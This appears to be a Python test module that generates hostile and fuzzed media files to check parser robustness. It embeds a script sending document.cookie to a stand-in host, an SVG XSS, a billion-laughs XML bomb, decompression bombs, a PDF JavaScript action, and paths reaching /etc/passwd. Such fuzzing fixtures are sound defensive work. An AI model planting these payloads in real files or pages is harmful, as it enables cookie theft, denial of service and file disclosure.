"""Files that were made to break whoever opens them, or broken by chance: the same for a seed."""

import io
import struct
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import cache
from random import Random  # noqa: TID251 - seeded, so that a failing file can be made again

from PIL import Image, PngImagePlugin

from tests.evidence_store.papers import paper
from tests.evidence_store.pictures import picture
from tests.evidence_store.recordings import box, film, tune, voice

PAGE = b"<!doctype html><script>fetch('https://elsewhere.example/' + document.cookie)</script>"
DRAWING = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>1</script></svg>'
LAUGHS = (
    b'<x:xmpmeta><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "' + b"&a;" * 90 + b'">]>'
    b"<c>&b;</c></x:xmpmeta>"
)
NASTY = (
    b"\x00" * 64, b"\xff" * 64, b"\x7f\xff\xff\xff", b"\x80\x00\x00\x00", b"\xff\xff\xff\xff",
    b"../../etc/passwd\0", b"%s%n%x", PAGE, DRAWING, LAUGHS, b"\xff\xd8\xff\xe1", b"moov", b"obj",
)  # fmt: skip


@dataclass(frozen=True)
class Hostile:
    """One file, with what it is for a failing test to name."""

    name: str
    data: bytes


@cache
def honest() -> tuple[tuple[str, bytes], ...]:
    """Return one true file of each kind that is looked into."""
    return (
        *((kind, picture(kind, size=(96, 64))) for kind in ("JPEG", "PNG", "WEBP", "HEIF")),
        ("PDF", paper(pages=1)),
        ("MP4", film(sound=bytes(400))),
        ("MOV", film(b"qt  ", sound=bytes(400))),
        ("MP3", tune()),
        ("WAV", voice(seconds=0.1)),
    )


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png(width: int, height: int, *chunks: bytes) -> bytes:
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + b"".join(chunks) + _chunk(b"IEND", b"")


def _pdf(*objects: bytes) -> bytes:
    body = b"".join(b"%d 0 obj\n%s\nendobj\n" % (n + 1, each) for n, each in enumerate(objects))
    return b"%PDF-1.7\n" + body + b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"


def _deflated(data: bytes, times: int) -> tuple[bytes, bytes]:
    for _ in range(times):
        data = zlib.compress(data, 9)
    return data, b"[" + b"/FlateDecode " * times + b"]"


def _paper_bomb(times: int) -> bytes:
    data, filters = _deflated(b"0 0 m 9 9 l S\n" * 5_000_000, times)
    stream = b"<< /Filter %s /Length %d >>\nstream\n%s\nendstream" % (filters, len(data), data)
    return _pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] /Contents 4 0 R >>",
        stream,
    )


def bombs() -> Iterator[Hostile]:
    """Yield what grows, loops, nests, lies about its size, or is two things at once."""
    zeros = zlib.compress(bytes(60_000_000), 9)
    yield Hostile("png of nothing but zeros", _png(8000, 2500, _chunk(b"IDAT", zeros)))
    yield Hostile("png larger than any", _png(2**31 - 1, 2**31 - 1, _chunk(b"IDAT", zeros)))
    yield Hostile("png without pixels", _png(64, 64))
    text = _chunk(b"zTXt", b"Comment\0\0" + zeros)
    yield Hostile("png with a text that grows", _png(64, 64, text))
    many = b"".join(_chunk(b"tEXt", b"n%d\0x" % n) for n in range(20_000))
    yield Hostile("png with endless texts", _png(64, 64, many))
    written = io.BytesIO()
    words = PngImagePlugin.PngInfo()
    words.add_itxt("XML:com.adobe.xmp", LAUGHS.decode(), zip=True)
    Image.new("1", (16_000, 9_000)).save(written, "PNG", pnginfo=words)
    yield Hostile("png that is huge and laughs", written.getvalue())
    jpeg = picture("JPEG", size=(96, 64))
    place = jpeg.index(b"\xff\xc0")
    vast = jpeg[: place + 5] + b"\xff\xff\xff\xff" + jpeg[place + 9 :]
    yield Hostile("jpeg that says it is vast", vast)
    yield Hostile("jpeg of endless blocks", jpeg[:2] + b"\xff\xe1\xff\xff" + bytes(65_533) * 90)
    yield Hostile("jpeg with a page behind it", jpeg + PAGE)
    yield Hostile("jpeg and archive", jpeg + b"PK\x03\x04" + bytes(400) + b"PK\x05\x06" + bytes(18))
    yield Hostile("jpeg that is a page", b"\xff\xd8\xff\xe0" + PAGE)
    yield Hostile("webp that lies about its size", b"RIFF\xff\xff\xff\xffWEBPVP8L" + b"\xff" * 400)
    yield Hostile("heic of nothing", box(b"ftyp", b"heic", bytes(4), b"mif1heic"))
    deep = b"%PDF-1.7\n1 0 obj\n" + b"[" * 300_000
    yield Hostile("pdf nested without end", deep)
    for times in (1, 2, 3):
        yield Hostile(f"pdf deflated {times} times", _paper_bomb(times))
    loop = _pdf(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R] /Count 9 >>")
    yield Hostile("pdf whose pages are themselves", loop)
    script = (
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>"
    )
    yield Hostile("pdf with a script", _pdf(script, b"<< /Type /Pages /Kids [] /Count 0 >>"))
    outside = b"<< /F (/etc/passwd) /FFilter /ASCIIHexDecode >>\nstream\n\nendstream"
    yield Hostile("pdf that reads elsewhere", _pdf(b"<< /Type /Catalog >>", outside))
    yield Hostile("pdf that is a page", b"%PDF-1.4\n" + PAGE)
    kind = box(b"ftyp", b"isom", bytes(4), b"isommp42")
    yield Hostile("film whose box never ends", kind + struct.pack(">I4s", 0, b"moov") + bytes(999))
    yield Hostile(
        "film of one box vast", kind + struct.pack(">I4sQ", 1, b"moov", 2**63) + bytes(99)
    )
    nested = b"x"
    for _ in range(2000):
        nested = box(b"moov", nested)
    yield Hostile("film of boxes in boxes", kind + nested)
    yield Hostile("film of endless boxes", kind + struct.pack(">I4s", 8, b"free") * 200_000)
    refers = box(b"dref", struct.pack(">II", 0, 1), box(b"url ", bytes(4), b"file:///etc/passwd\0"))
    yield Hostile("film that lies elsewhere", kind + box(b"moov", box(b"trak", refers)))
    yield Hostile("tune with vast tags", b"ID3\x04\0\0\x7f\x7f\x7f\x7f" + b"APIC\xff" * 9000)
    yield Hostile("sound that lies about its size", b"RIFF\xff\xff\xff\xffWAVEfmt \xff\xff\xff\xff")
    yield Hostile("list of other files", b"#EXTM3U\n#EXT-X-STREAM-INF\nhttp://elsewhere.example/\n")
    yield Hostile("drawing", DRAWING)
    yield Hostile("page", PAGE)


def mutated(seed: int) -> Hostile:
    """Return a true file broken in one to four ways, or with its head on another's body."""
    chance = Random(seed)  # noqa: S311 - the same files for the same seed
    kind, data = chance.choice(honest())
    name = f"{seed}: {kind}"
    for _ in range(chance.randint(1, 4)):
        way = chance.choice(WAYS)
        data = way(data, chance)
        name += f" {way.__name__.strip('_')}"
    return Hostile(name, data or b"\0")


def _flipped(data: bytes, chance: Random) -> bytes:
    broken = bytearray(data)
    for _ in range(chance.randint(1, 30)):
        if broken:
            broken[chance.randrange(len(broken))] ^= 1 << chance.randrange(8)
    return bytes(broken)


def _cut(data: bytes, chance: Random) -> bytes:
    return data[: chance.randint(0, len(data))]


def _stuffed(data: bytes, chance: Random) -> bytes:
    place = chance.randint(0, len(data))
    return data[:place] + chance.choice(NASTY) + data[place:]


def _overwritten(data: bytes, chance: Random) -> bytes:
    nasty = chance.choice(NASTY)
    place = chance.randint(0, len(data))
    return data[:place] + nasty + data[place + len(nasty) :]


def _swollen(data: bytes, chance: Random) -> bytes:
    start = chance.randint(0, len(data))
    stop = min(len(data), start + chance.randint(1, 400))
    return data[:stop] + data[start:stop] * chance.randint(1, 300) + data[stop:]


def _crossed(data: bytes, chance: Random) -> bytes:
    _, other = chance.choice(honest())
    head = chance.choice((12, 32, 200))
    return data[:head] + other[head:]


WAYS: tuple[Callable[[bytes, Random], bytes], ...] = (
    _flipped, _flipped, _cut, _stuffed, _overwritten, _swollen, _crossed,
)  # fmt: skip
